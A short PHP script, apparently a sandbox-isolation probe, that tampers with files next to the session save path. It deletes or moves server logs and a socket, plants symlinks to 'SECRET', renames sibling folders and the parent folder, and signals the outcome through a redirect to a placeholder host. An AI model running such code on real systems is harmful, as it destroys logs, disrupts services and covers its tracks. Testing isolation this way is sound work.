<?php
session_start();
$room = dirname(session_save_path());
$done = [];
foreach (['php.log', 'server.log', 'upstream.sock'] as $name) {
    if (@rename("$room/$name", "$room/sessions/$name") || @unlink("$room/$name")) {
        $done[] = $name;
    }
    if (@symlink('SECRET', "$room/$name")) {
        $done[] = "$name linked";
    }
}
foreach (glob("$room/*", GLOB_ONLYDIR) as $folder) {
    if (basename($folder) !== 'sessions' && @rename($folder, "$folder-moved")) {
        $done[] = "$folder moved";
    }
}
if (@rename($room, "$room-moved")) {
    $done[] = 'room moved';
}
error_log('changed: ' . implode(', ', $done));
header('Location: http://' . ($done === [] ? 'nothing' : 'something') . '.changed.example/');
